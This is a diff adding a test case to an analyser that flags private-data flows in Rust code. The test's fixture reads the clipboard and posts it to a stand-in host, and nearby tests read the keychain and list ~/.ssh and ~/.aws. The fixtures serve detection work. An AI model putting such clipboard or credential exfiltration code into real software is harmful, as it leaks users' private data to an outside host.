@@ -191,6 +191,11 @@ describe("sources of private data", () => {
     expect(sources(of(r, "send")[0]!.data)).toEqual(["keychain:security find-generic-password -wa x", "host-info:hostname"]);
   });
 
+  it("taints the output of a program picked from a list, as any one of them may run", () => {
+    const r = run(main('let tools: &[(&str, &[&str])] = &[("wl-copy-helper", &["-o"]), ("pbpaste", &[])];\nfor (bin, args) in tools {\n  if let Ok(out) = Command::new(bin).args(*args).output() {\n    reqwest::blocking::Client::new().post("https://o.invalid").body(out.stdout).send().unwrap();\n  }\n}'));
+    expect(sources(of(r, "send")[0]!.data).map((s) => s.split(":")[0])).toEqual(["clipboard"]);
+  });
+
   it("lists private folders read by read_dir and WalkDir", () => {
     const r = run(main('for e in fs::read_dir(dirs::home_dir().unwrap().join(".ssh")).unwrap() { let _ = e; }\nfor e in walkdir::WalkDir::new(dirs::home_dir().unwrap().join(".aws")) { let _ = e; }'));
     expect(of(r, "read").map((f) => f.detail)).toEqual(["~/.ssh (listing)", "~/.aws (listing)"]);
